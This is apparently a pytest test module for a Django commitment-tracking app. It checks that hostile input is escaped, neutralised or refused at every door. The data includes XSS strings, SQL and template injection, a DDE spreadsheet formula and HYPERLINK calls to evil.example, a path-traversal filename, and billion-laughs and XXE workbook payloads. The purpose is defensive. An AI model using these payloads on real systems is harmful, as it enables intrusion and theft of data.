"""Hostile input through every door, followed to every place it is shown (issue 8 §5).

Already covered elsewhere and not repeated here: the API's fuzzing of query parameters, paths,
headers and write bodies (tests/api/test_errors.py, tests/api/test_writes.py), hostile names on the
dashboard and in a built paper (tests/reporting), the timeline's escaping (tests/commitments/views/test_pages.py),
the import's file type, size and shape checks (tests/commitments/views/test_import.py), a digest's text
(tests/jobs/test_notifications.py), each export's formula-safe function on its own.

Added here, end to end:

- the same hostile note, reason and evidence sent through the browser form, the API and the
  spreadsheet import is stored as text (control characters removed, nothing else changed), shown
  escaped on the commitment page and returned unchanged by the API;
- an action added through the form with a hostile description, then made overdue, prints as text
  in the escalation e-mail (subject, HTML and plain text) and in the committee report built through
  its page (HTML and PDF, read back with pdftotext);
- spreadsheet formulas written through the form and the API are neutralised in every export: the
  API's CSV lists, the import template, every dashboard table;
- a table of malformed values for every field of every browser form: a field error, never a 500,
  and nothing saved; uploads that are not UTF-8 or cp1252 text, and request bodies past Django's
  size and field-count limits;
- issue 11: ids past 2^63 − 1 and other non-ids in every id filter (API and the actions page),
  typed filters given empty, bad ``page`` / ``page_size``, the schema's word on them, huge or
  non-ASCII days and months in every date input, workbooks with hostile or broken XML, and
  workbooks whose declared size understates (or whose rows or columns overstate) what they hold.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import django_filters as filters
import pytest
from django.conf import settings as django_settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from django.utils.html import escape

from commitments import notifications, overdue
from commitments.models import Action, Obligation, Report, StatusUpdate
from commitments.services import _clean_text

from ..conftest import token_client
from ..factories import ActionFactory, BoardFactory, MeetingFactory, UserFactory
from .conftest import snapshot

pytestmark = pytest.mark.django_db

# One line each, so every line can be looked for in a page on its own.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.domain)>',
    "' onmouseover='alert(1)' x='",
    "</textarea><svg/onload=alert(1)>",
    "'; DROP TABLE commitments_statusupdate; --",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "invoice\u202egpj.exe and \u2066isolated\u2069 text",  # right-to-left override, bidi isolates
    "bell\x07 escape\x1b[31m nul-free controls\x0b\x0c",
    "進捗 ✅ 🎉 Zoë ﬁ",
]
NOTE = "\n".join(PAYLOADS)
REASON = '<b>bold</b> & "quoted"'
EVIDENCE = ["javascript:alert(1)", 'https://example.org/a"><script>alert(2)</script>', "data:text/html,<script>alert(3)</script>"]
RAW_MARKUP = ("<script>alert", "<img src=x", "onmouseover='alert", "<svg/onload", "<b>bold</b>", 'href="javascript:', 'href="data:')


def cleaned(text: str) -> str:
    return _clean_text(text)


def assert_shown_escaped(html: str, *, reason: bool = True) -> None:
    """Every payload line appears as escaped text; none of it as markup; no template ran."""
    for raw in RAW_MARKUP:
        assert raw not in html, raw
    for line in cleaned(NOTE).split("\n"):
        assert escape(line) in html, line
    if reason:
        assert escape(REASON) in html
    assert django_settings.SECRET_KEY not in html


def send_through(door: str, *, client: Client, obligation: Obligation, action: Action, api: Any) -> None:
    if door == "form":
        response = client.post(
            f"/obligations/{obligation.pk}/update/",
            {"version": obligation.version, "status": obligation.status, "note": NOTE, "reason": REASON, "evidence": "\n".join(EVIDENCE)},
        )
        assert response.status_code == 302, response.content[:500]
    elif door == "api":
        body = {"note": NOTE, "reason": REASON, "evidence": EVIDENCE, "version": obligation.version}
        response = api.post(f"/api/v1/obligations/{obligation.pk}/updates/", body, format="json")
        assert response.status_code == 201, response.content[:500]
    else:
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["action_id", "version", "note", "reason", "evidence"])
        writer.writerow([action.pk, action.version, NOTE, REASON, "|".join(EVIDENCE)])
        upload = io.BytesIO(out.getvalue().encode())
        upload.name = "hostile.csv"
        preview = client.post("/import/", {"file": upload})
        assert preview.status_code == 200
        assert_shown_escaped(preview.content.decode(), reason=False)  # the preview shows the notes, escaped too
        token = re.search(rb'name="token" value="([^"]+)"', preview.content)
        assert token, preview.content.decode()[:2000]
        assert client.post("/import/confirm/", {"token": token.group(1).decode()}).status_code == 302


@pytest.mark.parametrize("door", ["form", "api", "import"])
def test_hostile_text_is_stored_as_text_and_shown_escaped(door: str, obligation: Any, officer: Any, write_token: str) -> None:
    action = ActionFactory(obligation=obligation)
    client = Client()
    client.force_login(officer)
    api = token_client(write_token)

    send_through(door, client=client, obligation=obligation, action=action, api=api)

    update = StatusUpdate.objects.get()
    assert update.note == cleaned(NOTE)  # control characters gone, every other character kept
    assert "\x07" not in update.note and "\x1b" not in update.note and "\u202e" in update.note
    assert update.reason == REASON and update.evidence == EVIDENCE
    assert api.get(f"/api/v1/status-updates/{update.pk}/").json()["note"] == update.note
    page = client.get(f"/commitments/{obligation.commitment.ref}/").content.decode()
    assert_shown_escaped(page)
    assert '<a class="govuk-link" href="https://example.org/a&quot;&gt;&lt;script&gt;' in page  # the only link, its URL escaped


# --- into e-mails and the committee report --------------------------------------------------------

DESCRIPTION = '<script>alert("x")</script> \u202eRLO =HYPERLINK("http://evil.example","Click") & co'


def pdf_text(data: bytes, tmp_path: Path) -> str:
    path = tmp_path / "paper.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True, text=True).stdout


def test_a_hostile_action_prints_as_text_in_the_escalation_email_and_the_committee_report(
    obligation: Any, officer: Any, secretary: Any, write_token: str, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    today = dt.date.today()
    client = Client()
    client.force_login(officer)
    late = today - dt.timedelta(days=10)
    response = client.post(
        f"/obligations/{obligation.pk}/actions/add/",
        {"description": DESCRIPTION + "\x07", "due_date-day": late.day, "due_date-month": late.month, "due_date-year": late.year},
    )
    assert response.status_code == 302
    action = Action.objects.get()
    assert action.description == DESCRIPTION  # the control character is gone, the rest is kept
    api = token_client(write_token)
    body = {"status": "in_progress", "reason": REASON + " <script>alert(9)</script>", "note": "n", "version": action.version}
    assert api.post(f"/api/v1/actions/{action.pk}/updates/", body, format="json").status_code == 201

    # The overdue pass tells the party's officers (an e-mail each); it carries the description as text.
    overdue.flag_overdue(today=today)
    assert notifications.deliver_outbox()["sent"] == 2
    (message,) = [m for m in mail.outbox if m.to == [officer.email]]
    assert "\n" not in message.subject and "\r" not in message.subject and "\x07" not in message.subject
    assert "<script>" in message.subject  # a subject is plain text: shown, never run
    html = message.alternatives[0][0]
    assert "<script>" not in html and escape(DESCRIPTION) in html
    assert DESCRIPTION in message.body  # the plain-text part is text already, not HTML-escaped

    # The committee report, built through its page (the build runs in this process).
    settings.CELERY_TASK_ALWAYS_EAGER = True
    lc = BoardFactory(code="LC", slug="leaders-committee", name="Leaders' Committee", kind="committee")
    meeting = MeetingFactory(board=lc, date=today + dt.timedelta(days=7))
    builder = Client()
    builder.force_login(secretary)
    with django_capture_on_commit_callbacks(execute=True):
        assert builder.post(f"/meetings/{meeting.pk}/build/").status_code == 302
    report = Report.objects.get(meeting=meeting)
    assert report.state == Report.State.READY, report.error
    paper = builder.get(f"/meetings/reports/{report.pk}/").content.decode()
    for raw in ("<script>alert", "<b>bold</b>"):
        assert raw not in paper
    assert escape(DESCRIPTION) in paper and escape(REASON) in paper
    pdf = b"".join(builder.get(f"/meetings/reports/{report.pk}/pdf/").streaming_content)
    text = "".join(pdf_text(pdf, tmp_path).split())
    for literal in ('<script>alert("x")</script>', "<b>bold</b>&", "<script>alert(9)</script>"):
        assert literal in text, literal  # printed as the characters typed


# --- exports --------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200, body[:300]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_formulas_typed_anywhere_are_neutralised_in_every_export(obligation: Any, officer: Any, write_token: str) -> None:
    client = Client()
    client.force_login(officer)
    api = token_client(write_token)
    past = dt.date.today() - dt.timedelta(days=3)
    for formula in FORMULAS[:3]:
        response = client.post(
            f"/obligations/{obligation.pk}/actions/add/",
            {"description": formula, "due_date-day": past.day, "due_date-month": past.month, "due_date-year": past.year},
        )
        assert response.status_code == 302
    for formula in FORMULAS:
        version = Obligation.objects.get(pk=obligation.pk).version
        body = {"note": formula, "reason": formula, "evidence": [formula], "status": "in_progress", "version": version}
        assert api.post(f"/api/v1/obligations/{obligation.pk}/updates/", body, format="json").status_code in (201, 400)

    exports = {
        "API status updates": api.get("/api/v1/status-updates/?format=csv"),
        "API actions": api.get("/api/v1/actions/?format=csv"),
        "API obligations": api.get("/api/v1/obligations/?format=csv"),
        "import template": client.get("/import/template.csv"),
    }
    # The summary and each of its breakdown pages (the links on the summary).
    summary = client.get("/dashboard/").content.decode()
    pages = sorted(set(re.findall(r'href="(/dashboard/[a-z]+/)"', summary)))
    assert len(pages) >= 5, pages
    dashboard = summary + "".join(client.get(page).content.decode() for page in pages)
    tables = sorted(set(re.findall(r"format=csv&amp;table=([a-z_\-]+)", dashboard)))
    assert len(tables) >= 5, tables
    for table in tables:
        exports[f"dashboard {table}"] = client.get(f"/dashboard/?format=csv&table={table}")

    seen = set()
    for name, response in exports.items():
        for row in read_csv(response):
            for cell in row:
                assert not cell.startswith(TRIGGERS), (name, cell)
                if cell.startswith("'") and cell[1:].startswith(("=HYPERLINK", "+1+1", "-2+3", "@SUM", "=1+1")):
                    seen.add(name)  # a payload that begins the cell, neutralised
    # The payloads really reached these exports (so the check above looked at them).
    assert {"API status updates", "API actions", "import template"} <= seen, seen
    assert any(name.startswith("dashboard") for name in seen), seen


# --- malformed values in every form ---------------------------------------------------------------

BAD_NUMBERS = ["abc", "-1", "101", "1.5", "1e3", "0x10", "9" * 30, "\x00", " 50 50", "NaN", "<script>"]
BAD_DAYS = [("32", "1", "2030"), ("29", "2", "2027"), ("1", "13", "2030"), ("1", "1", "99"), ("1", "1", "20300"), ("a", "b", "c"),
            ("-1", "1", "2030"), ("1", "", "2030"), ("", "", "2030"), ("1", "1", "1066"), ("1", "1", "9999"), ("\x00", "1", "2030")]  # fmt: skip
BAD_TEXT = ["x" * 5001, "bad\x00byte"]


def update_form_cases() -> list[tuple[str, dict[str, Any]]]:
    cases: list[tuple[str, dict[str, Any]]] = []
    cases += [(f"version={v!r}", {"version": v}) for v in ["", "abc", "0", "-3", "1.5", "9" * 30, "\x00"]]
    cases += [(f"progress={v!r}", {"progress": v}) for v in BAD_NUMBERS]
    cases += [(f"status={v!r}", {"status": v}) for v in ["", "done", "COMPLETE", "<script>", "\x00"]]
    cases += [(f"rag={v!r}", {"rag": v}) for v in ["purple", "RED", "\x00"]]
    cases += [
        (f"date={d!r}", {"revised_due_date-day": d[0], "revised_due_date-month": d[1], "revised_due_date-year": d[2], "reason": "r"})
        for d in BAD_DAYS
    ]
    cases += [(f"note={v[:12]!r}", {"note": v}) for v in BAD_TEXT]
    cases += [(f"reason={v[:12]!r}", {"reason": v, "status": "complete"}) for v in BAD_TEXT]
    cases += [("evidence: 21 items", {"evidence": "\n".join(f"e{i}" for i in range(21))}), ("evidence: too long", {"evidence": "e" * 2001})]
    cases += [("complete without evidence", {"status": "complete", "reason": "done"})]
    return cases


def add_action_cases() -> list[tuple[str, dict[str, Any]]]:
    cases: list[tuple[str, dict[str, Any]]] = [(f"description={v[:12]!r}", {"description": v}) for v in ["", "   ", *BAD_TEXT]]
    cases += [(f"due={d!r}", {"due_date-day": d[0], "due_date-month": d[1], "due_date-year": d[2]}) for d in BAD_DAYS]
    cases += [(f"owner={v!r}", {"owner": v}) for v in ["abc", "-1", "99999999999999999999", "\x00", "OTHER"]]
    return cases


UPDATE_CASES = update_form_cases()
ADD_CASES = add_action_cases()
OTHER_CASES = [
    ("notifications", "/notifications/", {"digests": v}) for v in ["", "maybe", "YES", "\x00", "<script>"]
] + [
    ("sign in", "/accounts/login/", {"username": u, "password": p})
    for u, p in [("x" * 5000, "p"), ("\x00", "p"), ("alice", "\x00"), ("", ""), ("alice'--", "' OR 1=1 --")]
] + [
    ("password change", "/accounts/password/change/", {"old_password": "\x00", "new_password1": "n", "new_password2": "m"}),
    ("password change", "/accounts/password/change/", {"old_password": "correct-horse-battery", "new_password1": "\x00" * 20, "new_password2": "\x00" * 20}),
    ("import confirm", "/import/confirm/", {"token": "\x00"}),
    ("import confirm", "/import/confirm/", {"token": "t" * 5000}),
]  # fmt: skip
BAD_INPUTS_TRIED = len(PAYLOADS) + 1 + len(EVIDENCE) + len(FORMULAS) + len(UPDATE_CASES) * 3 + len(ADD_CASES) + len(OTHER_CASES)


def assert_refused(response: Any, before: dict[str, Any], what: str) -> None:
    assert response.status_code in (200, 302, 400, 409), (what, response.status_code)
    if response.status_code in (200, 400) and b"<form" in response.content:
        assert b"govuk-error-summary" in response.content or b"There is a problem" in response.content, what
    assert snapshot() == before, f"{what}: something was saved"


@pytest.mark.parametrize("target", ["obligation", "action", "commitment"])
def test_no_malformed_value_in_an_update_form_is_a_500_or_saved(target: str, obligation: Any, officer: Any, secretary: Any) -> None:
    action = ActionFactory(obligation=obligation)
    client = Client(raise_request_exception=False)
    client.force_login(secretary)  # the lead board's secretariat may use all three forms
    item, url = {
        "obligation": (obligation, f"/obligations/{obligation.pk}/update/"),
        "action": (action, f"/actions/{action.pk}/update/"),
        "commitment": (obligation.commitment, f"/commitments/{obligation.commitment.ref}/update/"),
    }[target]
    valid = {"version": item.version, "status": item.status, "rag": item.rag, "progress": item.progress, "note": "ok"}
    before = snapshot()
    for what, bad in UPDATE_CASES:
        assert_refused(client.post(url, {**valid, **bad}), before, f"{target} {what}")
    assert client.post(url, valid).status_code == 302  # and the form still works


def test_no_malformed_value_in_the_add_action_form_is_a_500_or_saved(obligation: Any, officer: Any, other_officer: Any) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    url = f"/obligations/{obligation.pk}/actions/add/"
    valid = {"description": "A step", "due_date-day": "1", "due_date-month": "6", "due_date-year": "2031"}
    before = snapshot()
    for what, bad in ADD_CASES:
        bad = {k: (str(other_officer.pk) if v == "OTHER" else v) for k, v in bad.items()}  # not an officer of this party
        assert_refused(client.post(url, {**valid, **bad}), before, what)
    assert client.post(url, valid).status_code == 302


def test_no_malformed_value_in_the_other_forms_is_a_500_or_saved(officer: Any, obligation: Any) -> None:
    signed_in = Client(raise_request_exception=False)
    signed_in.force_login(officer)
    anonymous = Client(raise_request_exception=False)
    before = snapshot()
    for name, url, data in OTHER_CASES:
        client = anonymous if name == "sign in" else signed_in
        assert_refused(client.post(url, data), before, f"{name} {data!r:.60}")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"action_id,version,note\n1,1,\x81\x8d\x8f\x90\x9d\n", "could not be read as text"),  # neither UTF-8 nor cp1252
        (b"\xff\xfe" + "action_id,version\n1,1\n".encode("utf-16-le"), "is not a CSV file"),  # UTF-16 "CSV"
        (b'action_id,version,note\n1,1,"unterminated\n', None),  # an open quote: a row error or a file error, never a 500
        (b"action_id,version\n" + b"1,1\n" * 501, "501 rows of updates, more than the limit of 500"),
    ],
)
def test_uploads_that_are_not_readable_text_get_a_clear_error(content: bytes, message: str | None, officer: Any) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    upload = io.BytesIO(content)
    upload.name = "../../etc/passwd.csv"
    before = snapshot()
    response = client.post("/import/", {"file": upload})
    assert response.status_code == 200
    if message:
        assert message in response.content.decode()
    assert snapshot() == before and "commitments.import" not in client.session


def test_bodies_past_the_size_and_field_limits_are_400_not_500(obligation: Any, officer: Any) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    url = f"/obligations/{obligation.pk}/update/"
    before = snapshot()
    huge = client.post(url, {"version": obligation.version, "status": obligation.status, "note": "x" * (3 * 1024 * 1024)})
    assert huge.status_code == 400
    many = client.post(url, {f"f{i}": "x" for i in range(1200)} | {"version": obligation.version})
    assert many.status_code == 400
    assert snapshot() == before


def test_the_count_of_bad_inputs_tried_is_what_the_docs_say() -> None:
    """docs/reliability.md quotes this figure; keep the two in step."""
    doc = (Path(django_settings.BASE_DIR) / "docs" / "reliability.md").read_text()
    total = BAD_INPUTS_TRIED + ISSUE_11_INPUTS_TRIED  # the second is defined at the end of the module
    assert f"{total} hostile or malformed inputs" in doc, total


# --- issue 11: the 500s hostile input still found, and the silent loss -----------------------------


def error_summary(response: Any) -> str:
    """The text of a page's GOV.UK error summary ("" when it has none)."""
    html = response.content.decode()
    match = re.search(r'<div class="govuk-error-summary".*?</ul>', html, re.S)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", match.group(0))) if match else ""


ID_MESSAGE = f"Give a whole-number id from 1 to {2**63 - 1}."
# Past a bigint (SQLite could not even compare: OverflowError), past Python's 4,300-digit int(),
# not whole, not positive, not ASCII digits.
BAD_IDS = [str(2**63), "9" * 30, "9" * 5000, "0", "-1", "1.5", "1e3", "0x10", "abc", "²", "١", "１"]
ID_FILTERS = [
    ("actions", "obligation"),
    ("status-updates", "obligation"),
    ("status-updates", "action"),
    ("reports", "meeting"),
    ("commitments", "compare_to"),
    ("obligations", "compare_to"),
    ("dependencies", "action"),
    ("dependencies", "prerequisite_action"),
]


def test_every_id_filter_is_a_filtersets_id_filter() -> None:
    """One class (with its bounds) for every id filter of every list, so none is left to the database."""
    from devotracker.api.urls import router
    from devotracker.filters import IdFilter
    from finance.filtersets import YearFilter

    found = set()
    for prefix, viewset, _ in router.registry:
        filterset = getattr(viewset, "filterset_class", None)
        for name, field in filterset.base_filters.items() if filterset else ():
            if isinstance(field, YearFilter):  # a financial year (2000 to 2100), not an id: a typed filter
                continue
            if isinstance(field, filters.NumberFilter) or name in ("obligation", "action", "meeting", "compare_to"):
                assert isinstance(field, IdFilter), (prefix, name)
                found.add((prefix, name))
    assert found == set(ID_FILTERS)


@pytest.mark.parametrize(("collection", "param"), ID_FILTERS)
def test_an_id_filter_out_of_range_or_not_whole_is_a_400_naming_it(collection: str, param: str, obligation: Any, read_token: str) -> None:
    action = ActionFactory(obligation=obligation)
    api = token_client(read_token)
    for value in BAD_IDS:
        response = api.get(f"/api/v1/{collection}/", {param: value})
        assert response.status_code == 400, (value[:30], response.status_code, response.content[:300])
        assert response.json() == {"detail": "The request has invalid fields.", "code": "invalid", "errors": {param: [ID_MESSAGE]}}
    # The largest id is an id (nothing has it); a real one still filters. compare_to names a
    # period to compare with, not rows to select: one that does not exist is a 404.
    largest = api.get(f"/api/v1/{collection}/", {param: str(2**63 - 1)})
    if param == "compare_to":
        assert largest.status_code == 404
    else:
        assert largest.status_code == 200 and largest.json()["count"] == 0
    if (collection, param) == ("actions", "obligation"):
        assert [a["id"] for a in api.get("/api/v1/actions/", {"obligation": obligation.pk}).json()["results"]] == [action.pk]


PAGE_IDS = [str(2**63), "9" * 5000, "-1", "1.5", "abc"]


@pytest.mark.parametrize("value", PAGE_IDS)
def test_an_id_filter_out_of_range_on_the_actions_page_is_an_error_summary(value: str, obligation: Any, officer: Any) -> None:
    action = ActionFactory(obligation=obligation, description="Still listed")
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    response = client.get("/actions/", {"obligation": value})
    # As for every bad filter on a list page: the summary names it, and the list shows without it.
    assert response.status_code == 200
    assert f"Obligation (id): {ID_MESSAGE}" in error_summary(response)
    assert escape(action.description) in response.content.decode()


def typed_filters() -> list[tuple[str, str, bool]]:
    """(collection, parameter, is one of the filtersets' filled-in fields) for every filter of the
    API that must not be given empty: the typed ones, and the multiple-choice ones (an empty value
    is not one of their choices)."""
    from devotracker.api.urls import router
    from devotracker.filters import GivenMeansFilledMixin

    found = []
    for prefix, viewset, _ in router.registry:
        filterset = getattr(viewset, "filterset_class", None)
        for name, field in filterset.base_filters.items() if filterset else ():
            filled = issubclass(field.field_class, GivenMeansFilledMixin)
            if filled or isinstance(field, filters.MultipleChoiceFilter):
                found.append((prefix, name, filled))
    return found


TYPED_FILTERS = typed_filters()


def _closed_period() -> Any:
    """A closed reporting period, for the collections under one (its frozen rows)."""
    from reporting.periods import close_period, open_period

    admin = UserFactory(is_staff=True)
    today = timezone.localdate()
    period = open_period(board=BoardFactory(code="LC"), name="Closed", starts_on=today, ends_on=today, by=admin)
    return close_period(period, by=admin)


def test_empty_typed_filters_are_a_400_never_the_whole_list(obligation: Any, read_token: str) -> None:
    ActionFactory(obligation=obligation)
    api = token_client(read_token)
    period = _closed_period()
    names = {name for _, name, _ in TYPED_FILTERS}
    expected = {"updated_since", "since", "due_before", "due_after", "date_before", "date_after", "overdue", "obligation"}
    assert expected | {"target_type", "in_dashboards", "status", "rag", "kind", "theme", "pilot", "party"} <= names
    for prefix, name, filled in TYPED_FILTERS:
        collection = prefix.replace("(?P<period>[0-9]+)", str(period.pk))
        for empty in ("", "   "):
            response = api.get(f"/api/v1/{collection}/", {name: empty})
            assert response.status_code == 400, (collection, name, response.content[:200])
            errors = response.json()["errors"]
            assert list(errors) == [name], (collection, name, errors)
            if filled:
                assert errors[name] == ["Give a value, or leave this parameter out."], (collection, name)


@pytest.mark.parametrize("page", ["/actions/", "/obligations/", "/commitments/"])
def test_list_pages_still_drop_the_empty_boxes_of_their_filter_form(page: str, officer: Any) -> None:
    """A page's filter form submits every box, filled or not: the page tidies the URL rather than
    showing an error (the filters' new rule only concerns parameters that reach them)."""
    client = Client()
    client.force_login(officer)
    response = client.get(page, {"updated_since": "", "due_before": "", "overdue": "", "q": "x"})
    assert response.status_code == 302 and response["Location"] == f"{page}?q=x"


PAGE_SIZE_MESSAGE = "Give a whole number of at least 1 (larger than 500 is treated as 500)."


BAD_PAGE_SIZES = ["abc", "0", "-1", "1.5", "1e3", "", " ", "0x10", "²"]
LARGE_PAGE_SIZES = ["501", "100000", "9" * 30, "9" * 5000, "007"]


@pytest.mark.parametrize("value", BAD_PAGE_SIZES)
def test_a_page_size_that_is_not_a_whole_number_from_1_is_a_400(value: str, obligation: Any, read_token: str) -> None:
    response = token_client(read_token).get("/api/v1/actions/", {"page_size": value})
    assert response.status_code == 400
    assert response.json()["errors"] == {"page_size": [PAGE_SIZE_MESSAGE]}


@pytest.mark.parametrize("value", LARGE_PAGE_SIZES)
def test_a_large_page_size_is_clamped_to_500(value: str, obligation: Any, read_token: str) -> None:
    ActionFactory.create_batch(3, obligation=obligation)
    response = token_client(read_token).get("/api/v1/actions/", {"page_size": value})
    assert response.status_code == 200 and len(response.json()["results"]) == 3


def test_the_schema_says_what_the_id_and_paging_parameters_take(api: Any, db: Any) -> None:
    spec = api.get("/api/v1/schema/?format=json").json()

    def parameter(path: str, name: str) -> dict[str, Any]:
        return next(p for p in spec["paths"][path]["get"]["parameters"] if p["name"] == name)

    for collection, param in ID_FILTERS:
        schema = parameter(f"/api/v1/{collection}/", param)["schema"]
        assert schema == {"type": "integer", "format": "int64", "minimum": 1, "maximum": 2**63 - 1}, (collection, param)
    for path in ("/api/v1/actions/", "/api/v1/commitments/", "/api/v1/themes/"):
        size = parameter(path, "page_size")
        assert size["schema"] == {"type": "integer", "minimum": 1}
        assert "clamped to 500" in size["description"]
        assert parameter(path, "page")["schema"] == {"type": "integer", "minimum": 1}


# A day or month past a C int (OverflowError in datetime.date), past Python's 4,300-digit int(),
# or digits that str.isdigit() accepts but int() does not, or that nobody types for a date.
HUGE_DAYS = [
    ("99999999999999999999", "1", "2030"),
    ("1", "99999999999999999999", "2030"),
    ("9" * 5000, "1", "2030"),
    ("1", "9" * 5000, "2030"),
    ("²", "1", "2030"),
    ("1", "١", "2030"),
    ("1", "1", "２０３０"),
]


@pytest.mark.parametrize("form", ["add action", "obligation update", "action update", "commitment update"])
def test_a_huge_or_strange_day_or_month_is_a_form_error_in_every_date_input(form: str, obligation: Any, secretary: Any) -> None:
    action = ActionFactory(obligation=obligation)
    client = Client(raise_request_exception=False)
    client.force_login(secretary)  # the lead board's secretariat may use all four forms
    if form == "add action":
        url, field, valid = f"/obligations/{obligation.pk}/actions/add/", "due_date", {"description": "A step"}
    else:
        item, url = {
            "obligation update": (obligation, f"/obligations/{obligation.pk}/update/"),
            "action update": (action, f"/actions/{action.pk}/update/"),
            "commitment update": (obligation.commitment, f"/commitments/{obligation.commitment.ref}/update/"),
        }[form]
        field = "revised_due_date"
        valid = {"version": item.version, "status": item.status, "rag": item.rag, "progress": item.progress, "reason": "Moved"}
    before = snapshot()
    for day, month, year in HUGE_DAYS:
        response = client.post(url, {**valid, f"{field}-day": day, f"{field}-month": month, f"{field}-year": year})
        assert response.status_code == 200, (form, day[:20], month[:20], response.status_code)
        summary = error_summary(response)
        assert "must be a real date" in summary, (form, day[:20], month[:20], summary)
        assert snapshot() == before, f"{form}: something was saved"
    ok = client.post(url, {**valid, f"{field}-day": "01", f"{field}-month": "06", f"{field}-year": "2031"})
    assert ok.status_code == 302  # leading zeros are still a date, and the form still works


# --- hostile workbooks ------------------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"


def workbook_bytes(rows: list[list[Any]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewritten(data: bytes, part: str, change: Any) -> bytes:
    """The workbook with one part's XML passed through ``change`` (bytes → bytes)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            target.writestr(info.filename, change(content) if info.filename == part else content)
    return out.getvalue()


def with_doctype(xml: bytes, doctype: str, reference: str = "") -> bytes:
    """The part with a DOCTYPE before its root element and, if given, ``reference`` in place of the
    text "action_id" (openpyxl writes it as an inline string of the sheet), so a parser that
    expanded the entity would show what it read in the header cell."""
    if xml.startswith(b"<?xml"):
        declaration, rest = xml.split(b"?>", 1)
        xml, prefix = rest, declaration + b"?>"
    else:
        prefix = b""
    if reference:
        xml = xml.replace(b"action_id", reference.encode(), 1)
    return prefix + doctype.encode() + xml


LAUGHS = '<!DOCTYPE worksheet [<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>"


def hostile_workbooks(secret: Path, dtd: Path) -> dict[str, bytes]:
    good = workbook_bytes([["action_id", "version", "note"], [1, 1, "x"]])
    xxe = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    return {
        "malformed sheet": rewritten(good, SHEET, lambda xml: xml.replace(b"</row>", b"</rwo>", 1)),
        "truncated sheet": rewritten(good, SHEET, lambda xml: xml[: len(xml) // 2]),
        "sheet that is not XML": rewritten(good, SHEET, lambda xml: b"\x00\xff not xml at all"),
        "billion laughs in the sheet": rewritten(good, SHEET, lambda xml: with_doctype(xml, LAUGHS, "&lol9;")),
        "external entity in the sheet": rewritten(good, SHEET, lambda xml: with_doctype(xml, xxe, "&xxe;")),
        # A DTD on disk defining &foo; as the secret (a DOCTYPE alone is harmless: no DTD is fetched).
        "entity of an external DTD": rewritten(
            good, SHEET, lambda xml: with_doctype(xml, f'<!DOCTYPE worksheet SYSTEM "file://{dtd}">', "action_id&foo;")
        ),
        "external parameter entity": rewritten(
            good,
            SHEET,
            lambda xml: with_doctype(xml, f'<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "file://{dtd}"> %p;]>', "action_id&foo;"),
        ),
        "external entity in the workbook": rewritten(
            good,
            "xl/workbook.xml",
            lambda xml: with_doctype(xml, xxe.replace("worksheet", "workbook")).replace(b"<sheets>", b"<sheets>&xxe;", 1),
        ),
    }


HOSTILE_WORKBOOKS = list(hostile_workbooks(Path("/nonexistent"), Path("/nonexistent")))


def test_openpyxl_parses_uploaded_workbooks_with_defusedxml() -> None:
    import openpyxl

    assert openpyxl.DEFUSEDXML is True  # defusedxml is a requirement, and openpyxl uses it


@pytest.mark.parametrize("case", HOSTILE_WORKBOOKS)
def test_a_workbook_with_hostile_or_broken_xml_is_a_clear_import_error(case: str, officer: Any, obligation: Any, tmp_path: Path) -> None:
    ActionFactory(id=1, obligation=obligation)
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    dtd = tmp_path / "secret.dtd"
    dtd.write_text('<!ENTITY foo "TOP-SECRET-MARKER">')
    content = hostile_workbooks(secret, dtd)[case]
    client = Client(raise_request_exception=False)
    client.force_login(officer)
    before = snapshot()
    response = client.post("/import/", {"file": SimpleUploadedFile("updates.xlsx", content)})
    assert response.status_code == 200, (case, response.status_code)
    assert "could not be read as a spreadsheet" in error_summary(response), case
    assert "TOP-SECRET-MARKER" not in response.content.decode() and "lollol" not in response.content.decode()
    assert snapshot() == before and "commitments.import" not in client.session


def understated(data: bytes, ref: str) -> bytes:
    """The workbook with its sheet's <dimension> claiming only ``ref``."""
    return rewritten(data, SHEET, lambda xml: re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), xml))


def test_a_workbook_that_understates_its_dimension_is_read_to_its_last_row_and_column(officer: Any, obligation: Any) -> None:
    actions = [ActionFactory(obligation=obligation) for _ in range(5)]
    rows = [["action_id", "version", "note"], *([a.pk, a.version, f"Note for action {a.pk}"] for a in actions)]
    # The dimension says two rows and two columns (A1:B2): the header and one action, no notes.
    content = understated(workbook_bytes(rows), "A1:B2")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b'<dimension ref="A1:B2"/>' in archive.read(SHEET)
    client = Client()
    client.force_login(officer)
